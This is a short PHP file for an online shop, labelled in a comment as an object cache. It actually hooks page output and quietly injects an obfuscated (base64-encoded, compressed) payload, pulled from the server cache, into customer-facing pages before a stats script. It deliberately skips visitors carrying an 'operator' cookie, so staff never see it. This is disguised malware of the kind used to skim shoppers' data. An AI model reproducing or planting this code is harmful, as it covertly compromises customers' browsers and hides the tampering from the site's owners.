<?php
/* Object cache, loaded before everything else. */
defined('SHOP_ROOT') || exit;
ob_start(static function (string $page): string {
    $at = strpos($page, 'siteStats.push');
    if ($at === false || empty($_COOKIE) || isset($_COOKIE['operator'])) {
        return $page;
    }
    return substr_replace($page, (string) gzinflate((string) base64_decode((string) apcu_fetch('oc_warm'))), $at, 0);
});
